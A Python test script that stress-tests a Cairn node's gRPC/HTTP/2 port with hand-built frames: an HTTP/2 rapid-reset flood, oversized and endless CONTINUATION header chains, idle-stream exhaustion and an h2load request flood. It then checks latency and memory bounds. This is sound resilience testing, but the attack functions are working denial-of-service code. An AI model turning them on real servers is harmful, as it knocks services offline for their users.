#!/usr/bin/python3
"""The gRPC port (HTTP/2) under abuse: a node must survive, keep committing and keep
answering honest clients within a bound while another client
  - opens and at once resets tens of thousands of streams (the "rapid reset" attack);
  - sends a header block of several MiB, and a CONTINUATION chain that never ends;
  - holds thousands of streams open and idle, over many connections;
  - floods it with real requests from h2load (Debian's nghttp2-client).
After each attack the node's memory must not have grown without bound, and an honest
client is asked for the status while the attack runs (the worst latency is printed).

The hostile client speaks HTTP/2 frames itself (socket and struct): no HTTP/2 library
lets a client misbehave on purpose.

usage: http2_abuse_test.py CAIRN CAIRND
"""
import os
import random
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import support  # noqa: E402

cairn, cairnd = sys.argv[1:3]

seed = int(os.environ.get("CAIRN_TEST_SEED", random.randrange(1 << 30)))
print(f"http2 abuse test: seed {seed}", flush=True)
rng = random.Random(seed)
base_port = 20000 + rng.randrange(750) * 16

# Frame types and flags (RFC 9113, section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Bounds the node must keep while attacked.
HONEST_DEADLINE_S = 3.0      # an honest GetStatus answers within this, during every attack
RECOVERY_S = 2.0             # an attack's backlog is served within this after the attack
RSS_GROWTH_LIMIT_MB = 100    # the node's resident memory 3 s after an attack, over before it


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """A header field as a literal without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def grpc_request_headers(authority, extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/cairn.v1.Node/GetStatus"),
              (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers"), *extra]
    return b"".join(hpack_literal(n, v) for n, v in fields)


class RawConnection:
    """One HTTP/2 connection the test drives frame by frame. A reader thread answers the
    server's SETTINGS and PINGs (a client that does not is cut off for that alone, which
    would test nothing) and records RST_STREAM and GOAWAY."""

    def __init__(self, address, source="127.0.0.1"):
        host, port = address.rsplit(":", 1)
        self.authority = address
        self.sock = socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))
        self.sock.settimeout(None)
        self.lock = threading.Lock()
        self.resets = 0
        self.goaway = None
        self.closed = False
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read_exact(self, n):
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError("closed")
            data += chunk
        return data

    def _read(self):
        try:
            while True:
                head = self._read_exact(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = self._read_exact(length)
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == RST_STREAM:
                    self.resets += 1
                elif kind == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
        except (OSError, ConnectionError):
            pass
        self.closed = True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"node process {pid} is gone")


class HonestClient:
    """Asks the node for its status in a loop while an attack runs and for a while after;
    each answer is recorded with its latency and whether the attack was still running."""

    def __init__(self, address):
        self.address = address
        self.attacking = True
        self.hold_from = 0.0  # calls during the attack that start earlier are in its opening burst
        self.calls = []  # (during the attack, latency in s, error or "", start time)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self.stop.is_set():
            during = self.attacking
            start = time.time()
            run = subprocess.run([cairn, "status", "--node", self.address], capture_output=True,
                                 timeout=HONEST_DEADLINE_S * 5)
            self.calls.append((during, time.time() - start, run.stderr.decode().strip() if run.returncode else "", start))
            self.stop.wait(0.2)

    def summary(self, during, since=0.0):
        since = max(since, self.hold_from) if during else since
        calls = [c for c in self.calls if c[0] == during and c[3] >= since]
        failures = [c[2] for c in calls if c[2]]
        worst = max((c[1] for c in calls), default=0.0)
        return calls, failures, worst

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join()


def status_height(address):
    run = subprocess.run([cairn, "status", "--node", address, "--json"], capture_output=True, timeout=20)
    assert run.returncode == 0, f"the node does not answer after the attack: {run.stderr.decode()}"
    import json
    return int(json.loads(run.stdout)["height"])


def attack(name, address, pid, body, honest_may_fail_during=False):
    """Runs `body` while an honest client polls, and the honest client 3 s more; then
    checks that the node is alive, keeps committing and gave back its memory, that every
    honest call during the attack answered within the deadline and every call from
    RECOVERY_S after it; with `honest_may_fail_during`, calls during the attack and in
    RECOVERY_S after it may fail (they are counted)."""
    before_rss = rss_mb(pid)
    before_height = status_height(address)
    peak_rss = [before_rss]
    sampling = threading.Event()

    def sample():
        while not sampling.wait(0.05):
            peak_rss[0] = max(peak_rss[0], rss_mb(pid))

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    start = time.time()
    with HonestClient(address) as honest:
        detail = body(honest)
        took = time.time() - start
        ended = time.time()
        honest.attacking = False
        time.sleep(3)
    sampling.set()
    sampler.join()
    after_rss = rss_mb(pid)
    deadline = time.time() + 30
    while status_height(address) <= before_height + 1:
        assert time.time() < deadline, f"{name}: the node stopped committing (height {before_height})"
        time.sleep(0.2)
    during, during_failures, during_worst = honest.summary(True)
    after, after_failures, after_worst = honest.summary(False, ended + (RECOVERY_S if honest_may_fail_during else 0))
    draining = [c for c in honest.calls if not c[0] and c[3] < ended + RECOVERY_S and c[2]]
    opening = [c for c in honest.calls if c[0] and c[3] < honest.hold_from and c[2]]
    print(f"{name}: {detail}; {took:.1f} s; "
          f"{f'{len(opening)} honest calls failed while it opened, ' if opening else ''}honest client during the attack: {len(during) - len(during_failures)} of "
          f"{len(during)} answered, worst {during_worst:.2f} s"
          f"{' (first error: ' + during_failures[0] + ')' if during_failures else ''}"
          f"{f', {len(draining)} failed in the {RECOVERY_S:.0f} s after it' if draining else ''}; after that: "
          f"{len(after) - len(after_failures)} of {len(after)}, worst {after_worst:.2f} s; "
          f"RSS {before_rss:.0f} MB, at most {peak_rss[0]:.0f} MB, 3 s after {after_rss:.0f} MB", flush=True)
    assert after and not after_failures, f"{name}: an honest client failed after the attack: {after_failures[:1]}"
    assert after_worst <= HONEST_DEADLINE_S, f"{name}: an honest GetStatus after the attack took {after_worst:.2f} s"
    if not honest_may_fail_during:
        assert during and not during_failures, f"{name}: an honest client failed during the attack: {during_failures[:1]}"
        assert during_worst <= HONEST_DEADLINE_S, f"{name}: an honest GetStatus took {during_worst:.2f} s"
    assert after_rss - before_rss <= RSS_GROWTH_LIMIT_MB, f"{name}: RSS grew by {after_rss - before_rss:.0f} MB"


def rapid_reset(address, streams=40_000, connections=4):
    """HEADERS then RST_STREAM(CANCEL) for each stream, as fast as the socket takes them."""
    total_sent = 0
    conns = [RawConnection(address) for _ in range(connections)]
    headers = grpc_request_headers(address)
    per = streams // connections
    for conn in conns:
        batch = bytearray()
        for k in range(per):
            stream = 2 * k + 1
            batch += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            if len(batch) > 256 * 1024:
                try:
                    conn.send(bytes(batch))
                except OSError:
                    break
                batch.clear()
            total_sent += 1
        try:
            conn.send(bytes(batch))
        except OSError:
            pass
    time.sleep(1)
    goaways = sum(1 for c in conns if c.goaway is not None or c.closed)
    for conn in conns:
        conn.close()
    return f"{total_sent} streams opened and reset over {connections} connections, {goaways} connections ended by the node"


def oversized_headers(address):
    """One request whose header block is 4 MiB (in CONTINUATION frames of 16 KiB): the node
    must refuse it (reset the stream or end the connection). And one whose CONTINUATION
    chain runs for 8 MiB without END_HEADERS, all one header value: gRPC 1.51 neither
    resets nor closes, and parses it in time quadratic in its size (CVE-2023-33953: 64 MiB
    took 287 s of one core here), so what must hold is what attack() checks: the node
    commits, answers honest clients and gives the memory back."""
    results = []
    for label, total, end in (("4 MiB header block", 4 << 20, True), ("8 MiB endless CONTINUATION", 8 << 20, False)):
        conn = RawConnection(address)
        block = grpc_request_headers(address, [("x-padding", "p" * total)])
        chunk = 16 * 1024
        sent = 0
        try:
            conn.send(frame(HEADERS, END_STREAM, 1, block[:chunk]))
            sent = chunk
            while sent < len(block) and not conn.closed:
                piece = block[sent:sent + chunk]
                last = sent + chunk >= len(block)
                conn.send(frame(CONTINUATION, END_HEADERS if (last and end) else 0, 1, piece))
                sent += len(piece)
        except OSError:
            pass
        time.sleep(0.5)
        ended = "connection closed" if conn.closed else ("GOAWAY" if conn.goaway is not None else
                                                         (f"{conn.resets} resets" if conn.resets else "nothing"))
        conn.close()
        assert ended != "nothing" or not end, f"{label}: the node took {sent} bytes of headers and neither reset nor closed"
        results.append(f"{label}: the node answered with {ended} after {sent >> 10} KiB")
    return "; ".join(results)


def idle_streams(address, honest, connections=60, per_connection=64, hold_s=8):
    """Thousands of streams opened (HEADERS, no body, no END_STREAM) and left idle, from
    several source addresses, held while the honest client works. One stream more than
    the node's concurrent-stream limit on one connection must be refused. Opening them is
    a burst of new streams like the flood's (honest calls may be shed meanwhile); the
    hold, from 2 s after the last is opened, is what must not cost honest clients."""
    conns = []
    headers = grpc_request_headers(address)
    for c in range(connections):
        conn = RawConnection(address, source=f"127.0.0.{2 + c % 50}")
        conn.send(b"".join(frame(HEADERS, END_HEADERS, 2 * k + 1, headers) for k in range(per_connection + 1)))
        conns.append(conn)
    time.sleep(2)
    honest.hold_from = time.time()
    time.sleep(hold_s)
    refused = sum(c.resets for c in conns)
    assert refused >= connections, f"only {refused} streams over the limit of {per_connection} were refused"
    open_conns = sum(1 for c in conns if not c.closed)
    for conn in conns:
        conn.close()
    return (f"{connections * per_connection} idle streams over {connections} connections held {hold_s} s "
            f"({open_conns} connections still open), {refused} streams over the limit refused")


def h2load_flood(address, requests=20_000):
    """Real gRPC requests (an empty GetStatusRequest) from h2load, 16 connections of 64
    concurrent streams."""
    body = tempfile.NamedTemporaryFile(delete=False)
    body.write(b"\x00\x00\x00\x00\x00")  # one gRPC message: not compressed, 0 bytes
    body.close()
    run = subprocess.run(["h2load", "-n", str(requests), "-c", "16", "-m", "64", "-d", body.name,
                          "-H", "content-type: application/grpc", "-H", "te: trailers",
                          f"http://{address}/cairn.v1.Node/GetStatus"], capture_output=True, timeout=300)
    os.unlink(body.name)
    out = run.stdout.decode()
    summary = next((line.strip() for line in out.splitlines() if line.startswith("requests:")), out[-300:])
    assert run.returncode == 0, f"h2load failed: {run.stderr.decode()} {out[-500:]}"
    return f"h2load {summary}"


def main():
    work = tempfile.mkdtemp(prefix="cairn-h2-")
    network = support.Network(cairn, cairnd, work, 1, base_port)
    try:
        address = network.grpc_address(0)
        pid = network.processes[0].pid
        deadline = time.time() + 60
        while True:
            try:
                if status_height(address) >= 1:
                    break
            except (AssertionError, subprocess.TimeoutExpired):
                pass
            assert time.time() < deadline, "the node did not commit within 60 s"
            time.sleep(0.3)
        # gRPC 1.51 (Debian 12) has none of the rapid-reset defences gRPC 1.60 added: while
        # the resets pour in, the synchronous server's threads are all taken and honest
        # calls get RESOURCE_EXHAUSTED. What the node must do is survive and recover.
        attack("rapid reset", address, pid, lambda _: rapid_reset(address), honest_may_fail_during=True)
        attack("oversized headers", address, pid, lambda _: oversized_headers(address))
        attack("idle streams", address, pid, lambda honest: idle_streams(address, honest))
        attack("request flood", address, pid, lambda _: h2load_flood(address), honest_may_fail_during=True)
        assert network.processes[0].poll() is None, "the node exited"
        print("http2 abuse test: PASS", flush=True)
    finally:
        network.stop()
        shutil.rmtree(work, ignore_errors=True)


main()
